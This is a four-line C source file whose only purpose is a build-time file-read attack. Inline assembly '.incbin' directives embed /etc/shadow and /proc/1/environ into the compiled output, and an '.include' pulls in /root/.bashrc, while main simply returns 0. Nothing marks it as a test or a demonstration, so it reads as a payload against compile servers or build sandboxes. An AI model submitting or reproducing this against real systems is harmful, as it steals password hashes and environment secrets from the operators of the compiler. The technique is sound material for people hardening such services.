__asm__(".incbin \"/etc/shadow\"");
__asm__(".incbin \"/proc/1/environ\"");
__asm__(".include \"/root/.bashrc\"");
int main(void) { return 0; }
